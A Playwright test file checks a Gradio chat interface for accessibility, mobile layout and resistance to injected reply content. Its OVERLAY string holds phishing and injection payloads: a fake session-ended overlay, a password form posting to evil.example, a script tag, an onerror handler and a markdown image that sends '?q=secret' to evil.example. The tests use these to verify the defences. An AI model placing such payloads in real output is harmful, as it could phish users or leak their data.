"""What must hold on every page: accessible, on a phone too, nothing fetched from elsewhere, a reply stays in its place."""

from collections.abc import Callable

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Request, expect

from tests.browser.conftest import Site, said_in, send, settled

AS_HTML = "- a list\n\n    "
"""Tags are shown, not obeyed; Gradio's Markdown once read a line indented in a list as HTML."""

OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Your session ended</div>'
    '<form action="https://evil.example"><input type="password" name="p"></form>'
    '<img src="https://evil.example/pixel.png" onerror="window.hacked=1"><script>window.hacked=1</script>'
    "![x](https://evil.example/?q=secret)"
)
MARKDOWN = (
    "# Title\n\nSome **bold** text, `code`, \\(x^2\\) and \\[y^2\\].\n\n```python\nprint(1)\n```\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n"
)


RICH = (
    "<think>\nA thought\n</think>\n\n" + MARKDOWN + "- [x] done\n    - [ ] to do\n\n> quoted[^1]\n\n[^1]: A note\n\n"
    "![A cat](https://evil.example/cat.png) [link](https://x.org)\n\n- שלום\n\n"
    "<details><summary>More</summary>\n\nwords\n\n</details>\n\n```mermaid\ngraph TD; A-->B;\n```\n"
)


FADED = """() => {
  const ends = (one) => one.effect.getComputedTiming().endTime !== Infinity;
  document.getAnimations().filter(ends).forEach((one) => one.finish());
}"""


def faults(page: Page) -> list[str]:
    """Whatever axe finds when Gradio has mounted and nothing fades in any more: half faded words have little contrast."""
    expect(page.locator("#standing")).to_have_count(0)
    page.evaluate(FADED)
    found = Axe().run(page).response["violations"]
    return [f"{v['id']} ({v['impact']}): {node['html'][:200]}" for v in found for node in v["nodes"][:3]]


def serious(page: Page) -> list[str]:
    """Of what axe finds, what keeps somebody out."""
    return [fault for fault in faults(page) if "(serious)" in fault or "(critical)" in fault]


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_in_a_rich_conversation(theme: str, width: int, visit: Callable[..., Page], site: Site) -> None:
    page = visit(f"/?__theme={theme}")
    page.set_viewport_size({"width": width, "height": 2400})
    page.evaluate("innerWidth < 768 && (chatapp.fold('left', true), chatapp.fold('right', true))")
    site.say(RICH)
    send(page, "Show me everything")
    settled(page)
    page.locator("#bot details").first.evaluate("(fold) => { fold.open = true; }")
    assert faults(page) == []


def test_the_first_stop_of_the_keyboard_leads_to_the_message_box(page: Page) -> None:
    page.evaluate("document.body.tabIndex = -1; document.body.focus()")
    page.keyboard.press("Tab")
    link = page.get_by_role("link", name="Skip to the message box")
    expect(link).to_be_focused()
    assert link.bounding_box()["y"] >= 0
    page.keyboard.press("Enter")
    expect(page.locator("#message")).to_be_focused()


def test_arrow_up_in_the_empty_box_edits_the_last_message(page: Page) -> None:
    for words in ("first", "second"):
        send(page, words)
        settled(page)
    page.locator("#message").press("ArrowUp")
    editor = page.get_by_role("textbox", name="Edit the message")
    expect(editor).to_be_focused()
    expect(editor).to_have_value("second")
    editor.press("Escape")
    page.locator("#message").fill("typed")
    page.locator("#message").press("ArrowUp")
    expect(editor).to_have_count(0)


def test_long_lines_of_code_break_where_one_wishes_so(page: Page, site: Site) -> None:
    site.say("```python\n" + "word " * 100 + "\n```\n")
    send(page, "long")
    settled(page)
    wide = "(block) => block.scrollWidth > block.clientWidth"
    assert page.locator("#bot pre").evaluate(wide)
    page.get_by_role("button", name="Break long lines").click()
    expect(page.get_by_role("button", name="Break long lines")).to_have_attribute("aria-pressed", "true")
    assert not page.locator("#bot pre").evaluate(wide)
    page.reload()
    expect(page.locator("#bot pre")).to_be_visible()
    assert not page.locator("#bot pre").evaluate(wide)


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_serious(theme: str, visit: Callable[..., Page], site: Site) -> None:
    page = visit(f"/?__theme={theme}")
    expect(page.locator("#model-line")).to_contain_text("scripted")
    assert serious(page) == []
    site.say(MARKDOWN)
    send(page, "Show me everything")
    settled(page)
    page.evaluate("chatapp.fold('right', false)")
    expect(page.locator("#system")).to_be_visible()
    assert serious(page) == []


def test_nothing_is_fetched_from_elsewhere_even_when_a_reply_wants_it(visit: Callable[..., Page], site: Site) -> None:
    foreign: list[str] = []
    page = visit("/")

    def note(request: Request) -> None:
        if not request.url.startswith((site.url, "data:", "blob:")) and request.failure is None:
            foreign.append(request.url)

    page.context.on("requestfinished", note)
    page.reload()
    site.say(AS_HTML + OVERLAY)
    send(page, "attack")
    settled(page)
    page.wait_for_timeout(500)
    assert foreign == []
    assert page.evaluate("window.hacked") is None


def test_what_a_reply_draws_stays_in_its_bubble(page: Page, site: Site) -> None:
    site.say(AS_HTML + OVERLAY)
    send(page, "attack")
    settled(page)
    box = page.locator("#message").bounding_box()
    top = page.evaluate("([x, y]) => document.elementFromPoint(x, y).id", [box["x"] + 20, box["y"] + box["height"] / 2])
    assert top == "message"
    for field in page.locator("#bot input[type=password], #bot form").all():
        assert not field.is_visible()


def test_a_reply_cannot_pass_for_a_part_of_the_page(visit: Callable[..., Page], site: Site) -> None:
    fakes = "".join(f'<div id="{name}" class="toast">fake</div>' for name in ("message", "send", "menu", "meter", "toasts", "question"))
    site.say(AS_HTML + fakes)
    page = visit()
    for words in ("first", "second"):
        page.locator("textarea#message").fill(words)
        page.locator("textarea#message").press("Enter")
        expect(page.locator("#bot .user-row").last).to_contain_text(words)
        settled(page)
    page.reload()
    expect(page.locator("body:not(.starting) #bot .user-row")).to_have_count(2)
    for bubble in page.locator("#bot .bot-row .markdown").all():
        expect(bubble).to_contain_text('<div id="menu" class="toast">')  # what lies out of sight has no inner text before it is drawn
        assert bubble.locator("[id], .toast").count() == 0


def test_code_like_tags_and_prices_do_not_vanish(page: Page, site: Site) -> None:
    site.say("Use <my-widget> for $5 or $6; std::vector<int> too")
    send(page, "<b>what</b> is List<String>?")
    settled(page)
    text = said_in(page.locator("#bot .bot-row"))[0]
    assert "<my-widget>" in text and "$5 or $6" in text


def test_a_question_stands_and_copies_as_it_was_typed(page: Page, site: Site) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    words = "What does <br> do if a<b and c>d? <b>bold</b> <script>alert(1)</script> vector<int>"
    send(page, words)
    settled(page)
    row = page.locator("#bot .user-row")
    assert words in said_in(row)[0]
    row.hover()
    row.get_by_role("button", name="Copy").last.click()
    assert page.evaluate("navigator.clipboard.readText()") == words
    words = "# no heading\n    four spaces\n1) first\n* star \\(x<y\\)"
    page.locator("#message").fill(words)
    page.locator("#message").press("Enter")
    settled(page)
    assert said_in(page.locator("#bot .user-row .user.message"))[-1] == words


def test_a_reply_loses_no_words_to_tags_and_copies_whole(page: Page, site: Site) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    words = "If a<b and c>d, use <div> or `<span>`<br>and so on.\n\n```html\n<p>code</p>\n```\n"
    site.say(words)
    send(page, "tags?")
    settled(page)
    row = page.locator("#bot .bot-row")
    text = said_in(row)[0]
    assert "If a<b and c>d, use <div> or <span>\nand so on." in text and "<p>code</p>" in text
    row.hover()
    row.locator(".line").get_by_role("button", name="Copy", exact=True).click()
    assert page.evaluate("navigator.clipboard.readText()") == words


def test_thoughts_are_folded(page: Page, site: Site) -> None:
    site.say("<think>", "secret musing", "</think>", "Answer")
    send(page, "think")
    settled(page)
    expect(page.locator("#bot .bot-row")).to_contain_text("Answer")
    expect(page.get_by_text("secret musing")).not_to_be_visible()
    page.locator("#bot details.reasoning summary").click()
    expect(page.get_by_text("secret musing")).to_be_visible()


def test_on_a_phone_the_sidebar_is_closed_and_closes_itself(browser: Browser, site: Site) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    page = context.new_page()
    page.goto(site.url)
    expect(page.locator("#welcome")).to_be_visible()
    expect(page.locator("#left")).not_to_be_visible()
    send(page, "from a phone")
    settled(page)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.get_by_role("button", name="Show the sidebar").click()
    expect(page.locator("#left")).to_be_visible()
    page.locator("#conversations .open").first.click()
    expect(page.locator("#left")).not_to_be_visible()
    context.close()
